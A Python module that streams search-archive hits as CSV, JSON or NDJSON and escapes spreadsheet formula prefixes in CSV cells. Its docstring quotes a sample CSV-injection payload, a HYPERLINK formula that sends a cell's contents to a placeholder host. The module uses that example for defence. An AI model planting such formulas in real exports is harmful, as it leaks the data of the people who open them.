"""Exports of search hits as CSV, JSON or NDJSON, streamed: the CLI writes them to a file or a
pipe, the HTTP API streams the same text. Every writer takes an iterator of hits (e.g.
``service.iterate``) and never holds more than one hit.

    json    one JSON document: an array of hit objects (valid even when empty)
    ndjson  one hit object per line
    csv     a header and one row per hit (lists joined with "; ", highlights unmarked)

Exports hold every copy of a story (wire and syndicated copies), each with its ``story``: the id
of the story's first copy, the same for all its copies.

With ``archive_base`` (the search page's address), each hit also has ``archive_url``: its page
in the archive, the link to send a colleague when the original has changed or gone.

CSV is opened in spreadsheets, and a crawled title such as =HYPERLINK("http://x/?"&A1,"…") would
run there as a formula. So every CSV cell that starts with =, +, -, @, a tab or a carriage
return gets a leading ' (spreadsheets show the text as it was; strip one leading ' to get the
original back). JSON and NDJSON are written exactly as stored.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from typing import Iterable, Iterator, TextIO

from search.query import Hit, mark_tags, unmarked

FORMATS = ("csv", "json", "ndjson")
MEDIA_TYPES = {"csv": "text/csv; charset=utf-8", "json": "application/json; charset=utf-8", "ndjson": "application/x-ndjson; charset=utf-8"}
# Every copy of a story is a row of its own; `story` (the id of the story's first copy) groups them.
EXPORT_COLUMNS = ("url", "archive_url", "title", "site", "authors", "published", "score", "snippets", "tags", "section", "language",
                  "edited", "story")
EARLIER_COLUMNS = ("captured_at", "earlier_version_of")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value):
    """A CSV cell a spreadsheet will never run as a formula (OWASP's CSV-injection advice)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def columns(with_body: bool = False, include_earlier: bool = False) -> tuple[str, ...]:
    return EXPORT_COLUMNS + (EARLIER_COLUMNS if include_earlier else ()) + (("body",) if with_body else ())


def _row(hit: Hit, archive_base: str | None) -> dict:
    row = hit.as_dict()
    if archive_base:
        row["archive_url"] = f"{archive_base.rstrip('/')}/article/{row.get('earlier_version_of') or hit.id}"
    return row


def csv_chunks(hits: Iterable[Hit], with_body: bool = False, include_earlier: bool = False,
               archive_base: str | None = None) -> Iterator[str]:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns(with_body, include_earlier), extrasaction="ignore")
    writer.writeheader()  # column names are ours: nothing to neutralise
    for hit in hits:
        row = _row(hit, archive_base)
        row["authors"] = "; ".join(row["authors"])
        row["tags"] = "; ".join(row["tags"] or [])
        row["snippets"] = " … ".join(unmarked(s) for s in row["snippets"])
        writer.writerow({key: neutralised(value) for key, value in row.items()})
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
    if buffer.getvalue():  # the header of an empty export
        yield buffer.getvalue()


def _as_json(hit: Hit, archive_base: str | None) -> str:
    data = _row(hit, archive_base)
    data["snippets"] = [mark_tags(s) for s in data["snippets"]]
    return json.dumps(data, ensure_ascii=False)


def json_chunks(hits: Iterable[Hit], archive_base: str | None = None, **_) -> Iterator[str]:
    yield "["
    for n, hit in enumerate(hits):
        yield ("\n" if n == 0 else ",\n") + _as_json(hit, archive_base)
    yield "\n]\n"


def ndjson_chunks(hits: Iterable[Hit], archive_base: str | None = None, **_) -> Iterator[str]:
    for hit in hits:
        yield _as_json(hit, archive_base) + "\n"


CHUNKS = {"csv": csv_chunks, "json": json_chunks, "ndjson": ndjson_chunks}


def export_chunks(fmt: str, hits: Iterable[Hit], with_body: bool = False, include_earlier: bool = False,
                  archive_base: str | None = None) -> Iterator[str]:
    """The export as text chunks, for a streamed HTTP response."""
    if fmt not in CHUNKS:
        raise ValueError(f"unknown export format {fmt!r}: use one of {', '.join(FORMATS)}")
    return CHUNKS[fmt](hits, with_body=with_body, include_earlier=include_earlier, archive_base=archive_base)


def export_filename(text: str, fmt: str, day: str) -> str:
    """archive-<the query's words>-<day>.<fmt>, in plain ASCII (küstenschutz → kustenschutz):
    a download says what it holds and when, and every browser and system keeps the name."""
    folded = unicodedata.normalize("NFKD", text.lower()).encode("ascii", "ignore").decode()
    words = re.sub(r"[^a-z0-9]+", "-", folded).strip("-")[:60].rstrip("-")
    return f"archive-{words or 'all'}-{day}.{fmt}"


def write_export(fmt: str, hits: Iterable[Hit], out: TextIO, with_body: bool = False, include_earlier: bool = False,
                 archive_base: str | None = None) -> int:
    """Write the export to a text file; returns how many hits were written."""
    counted = _Counter(hits)
    for chunk in export_chunks(fmt, counted, with_body=with_body, include_earlier=include_earlier, archive_base=archive_base):
        out.write(chunk)
    return counted.count


def write_csv(hits: Iterable[Hit], out: TextIO, with_body: bool = False, include_earlier: bool = False) -> int:
    return write_export("csv", hits, out, with_body, include_earlier)


def write_json(hits: Iterable[Hit], out: TextIO, with_body: bool = False, include_earlier: bool = False) -> int:
    return write_export("json", hits, out, with_body, include_earlier)


def write_ndjson(hits: Iterable[Hit], out: TextIO, with_body: bool = False, include_earlier: bool = False) -> int:
    return write_export("ndjson", hits, out, with_body, include_earlier)


class _Counter:
    def __init__(self, hits: Iterable[Hit]):
        self.hits = hits
        self.count = 0

    def __iter__(self):
        for hit in self.hits:
            self.count += 1
            yield hit
